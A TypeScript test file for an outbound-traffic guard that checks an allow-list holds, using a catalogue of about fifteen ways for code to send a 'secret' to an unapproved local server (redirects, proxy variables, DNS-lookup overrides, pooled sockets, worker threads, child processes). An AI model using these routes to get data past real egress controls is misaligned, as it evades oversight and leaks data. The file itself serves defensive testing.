import { execFile } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Server } from 'node:net';
import process from 'node:process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllowList } from './allow-list.ts';

/** Counts what reaches the destination that nobody approved. */
let received = 0;
const bad = createTcpServer((socket) => {
  socket.on('data', (data) => {
    received += data.length;
    socket.write('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok');
  });
  socket.on('error', () => socket.destroy());
});
const asked = new Set<string>();
/** Approved. `/mark` starts the count again, `/redirect` sends the caller to the other one. */
const good = createServer((request, response) => {
  if (request.url === '/mark') received = 0;
  asked.add(request.url ?? '');
  if (request.url === '/redirect') response.writeHead(307, { location: `http://127.0.0.1:${portOf(bad)}/` });
  response.end('fine');
});

function portOf(server: Pick<Server, 'address'>): number {
  return (server.address() as AddressInfo).port;
}

beforeAll(async () => {
  await new Promise<void>((resolve) => bad.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => good.listen(0, '127.0.0.1', resolve));
});
afterAll(() => {
  good.closeAllConnections();
  good.close();
  bad.close();
});

const GUARD = new URL('guard-egress.ts', import.meta.url).href;
const OWN_LOOKUP = `(host, options, done) => options.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4)`;

/** Code that tries to send to the port BAD; `await` works, errors are expected. `before` runs before the guard. */
interface EscapePath {
  readonly before?: string;
  readonly code: string;
  readonly env?: Readonly<Record<string, string>>;
}

const PATHS: Readonly<Record<string, EscapePath>> = {
  fetch: { code: `await fetch(BAD, { method: 'POST', body: 'secret' });` },
  'a dispatcher of its own': {
    code: `const { constructor: Agent } = globalThis[Symbol.for('undici.globalDispatcher.1')];
      await fetch(BAD, { method: 'POST', body: 'secret', dispatcher: new Agent() });`,
  },
  http: { code: `await wait(http.request(BAD, { method: 'POST' }).end('secret'));` },
  https: { code: `await wait(https.request(BAD.replace('http', 'https'), { method: 'POST' }).end('secret'));` },
  http2: { code: `const s = http2.connect(BAD); s.on('error', () => {}); await wait(s.request({ ':path': '/' }));` },
  net: { code: `const s = net.connect(BAD_PORT, '127.0.0.1'); s.write('secret'); await wait(s);` },
  'net, as an object': {
    code: `const s = new net.Socket(); s.connect({ port: BAD_PORT }); s.write('secret'); await wait(s);`,
  },
  tls: { code: `const s = tls.connect(BAD_PORT, '127.0.0.1'); s.write('secret'); await wait(s);` },
  WebSocket: {
    code: `const s = new WebSocket(BAD.replace('http', 'ws')); await new Promise((done) => { s.onerror = done; });`,
  },
  'a redirect': { code: `await fetch(GOOD + '/redirect', { method: 'POST', body: 'secret' });` },
  'a proxy of the environment': {
    code: `await fetch('http://approved.test/', { method: 'POST', body: 'secret', signal: AbortSignal.timeout(3000) });`,
    env: {
      NODE_USE_ENV_PROXY: '1',
      HTTP_PROXY: 'BAD',
      http_proxy: 'BAD',
      NO_PROXY: '127.0.0.1',
      no_proxy: '127.0.0.1',
    },
  },
  'a name that changes its meaning': {
    code: `await wait(http.request({ host: 'approved.test', port: BAD_PORT, method: 'POST', lookup: ${OWN_LOOKUP} }).end('secret'));`,
  },
  'a pooled socket': {
    before: `const agent = new http.Agent({ keepAlive: true });
      const before = http.get(BAD, { agent }); before.on('response', (r) => r.resume());
      await new Promise((done) => before.on('close', done)); await new Promise((done) => setImmediate(done));`,
    code: `await wait(http.request(BAD, { agent, method: 'POST' }).end('secret'));`,
  },
  'a worker thread': {
    code: `const code = 'process.getBuiltinModule("node:http").request(process.getBuiltinModule("node:worker_threads").workerData, { method: "POST" }).on("error", () => {}).end("secret")';
      const worker = new workers.Worker(code, { eval: true, workerData: BAD });
      worker.on('error', () => {}); await new Promise((done) => worker.on('exit', done));`,
  },
  'a child process': {
    code: `await new Promise((done) => child.execFile(process.execPath, ['-e', 'fetch(process.argv[1], { method: "POST", body: "secret" })', BAD], done));`,
  },
};

function programOf({ before = '', code }: EscapePath, isGuarded: boolean): string {
  const values = {
    BAD: `http://127.0.0.1:${portOf(bad)}`,
    BAD_PORT: portOf(bad),
    GOOD: `http://127.0.0.1:${portOf(good)}`,
  };
  const allow = [`127.0.0.1:${portOf(good)}`, 'approved.test:80', `approved.test:${portOf(bad)}`];
  // The resolver of the guard: what the name means when it is approved.
  const resolver = `async () => [{ address: '127.0.0.9', family: 4 }]`;
  return `
    import http from 'node:http'; import https from 'node:https'; import http2 from 'node:http2'; import net from 'node:net';
    import tls from 'node:tls'; import * as workers from 'node:worker_threads'; import * as child from 'node:child_process';
    import { guardEgress } from ${JSON.stringify(GUARD)};
    const { BAD, BAD_PORT, GOOD } = ${JSON.stringify(values)};
    const wait = (emitter) => new Promise((done) => {
      for (const event of ['error', 'response', 'close', 'data']) emitter.once(event, done);
      emitter.on('error', () => {}); setTimeout(done, 2000).unref();
    });
    ${before}
    if (${isGuarded}) console.log(JSON.stringify(guardEgress({ allow: ${JSON.stringify(allow)}, resolver: ${resolver} })));
    await fetch(GOOD + '/mark');
    try { ${code} } catch (error) { console.log(String(error)); }
    await new Promise((done) => setTimeout(done, 50));
    process.exit(0);`;
}

/** Runs a path to its end; the bytes that arrived where they should not. */
async function bytesOf(path: EscapePath, isGuarded: boolean): Promise<{ bytes: number; output: string }> {
  const entries = Object.entries(path.env ?? {}).map(([key, value]) => [
    key,
    value === 'BAD' ? `http://127.0.0.1:${portOf(bad)}` : value,
  ]);
  const env = { PATH: process.env['PATH'], NODE_NO_WARNINGS: '1', ...Object.fromEntries(entries) } as NodeJS.ProcessEnv;
  received = 0;
  const args = ['--input-type=module', '-e', programOf(path, isGuarded)];
  const output = await new Promise<string>((resolve) =>
    execFile(process.execPath, args, { env, timeout: 25_000 }, (_error, stdout, stderr) => resolve(stdout + stderr)),
  );
  return { bytes: received, output };
}

describe('ways out', () => {
  it.each(Object.keys(PATHS))('%s: nothing arrives, and without the guard it does', async (name) => {
    const guarded = await bytesOf(PATHS[name] as EscapePath, true);
    expect(guarded.output).toContain('"notCovered":["name-lookups","native-code","child-processes"]');
    expect(guarded.bytes).toBe(0);
    const control = await bytesOf(PATHS[name] as EscapePath, false);
    expect(control.bytes).toBeGreaterThan(0);
  });
});

describe('a worker thread', () => {
  it('still reaches what is approved', async () => {
    const code = (PATHS['a worker thread'] as EscapePath).code.replace(
      'workerData: BAD',
      "workerData: GOOD + '/worker'",
    );
    await bytesOf({ code }, true);
    expect(asked).toContain('/worker');
  });
});

describe('the list', () => {
  it('compares hosts and ports exactly', () => {
    const list = parseAllowList(['Inference.Example.:443', '[::1]:8443', '127.0.0.1:80', 'unix:/run/x.sock']);
    expect(list.entries).toEqual(['inference.example:443', '::1:8443', '127.0.0.1:80', 'unix:/run/x.sock']);
    expect(list.allows({ host: 'INFERENCE.example', port: 443 })).toBe(true);
    expect(list.allows({ host: '::1', port: 8443 })).toBe(true);
    expect(list.allows({ path: '/run/x.sock' })).toBe(true);
    for (const host of ['sub.inference.example', 'inference.example.evil', '127.1', 'localhost', '']) {
      expect(list.allows({ host, port: 443 })).toBe(false);
    }
    expect(list.allows({ host: '127.0.0.1', port: 81 })).toBe(false);
  });

  it.each(['*:443', 'example', 'https://example:443', 'example:0', 'example:70000', '', 'unix:relative', 'a b:1'])(
    'refuses the entry %j',
    (entry) => {
      expect(() => parseAllowList([entry])).toThrow(expect.objectContaining({ code: 'ERR_HOST_EGRESS_ENTRY' }));
    },
  );

  it('keeps the first meaning of a name, and refuses link-local ones', async () => {
    const meanings = ['192.0.2.1', '127.0.0.1'];
    const list = parseAllowList(['a.test:1'], async () => [{ address: meanings.shift() ?? '', family: 4 }]);
    expect(await list.resolve('a.test')).toEqual(await list.resolve('A.test'));
    const metadata = parseAllowList(['b.test:1'], async () => [{ address: '169.254.169.254', family: 4 }]);
    await expect(metadata.resolve('b.test')).rejects.toMatchObject({ code: 'ERR_HOST_EGRESS_REFUSED' });
  });
});
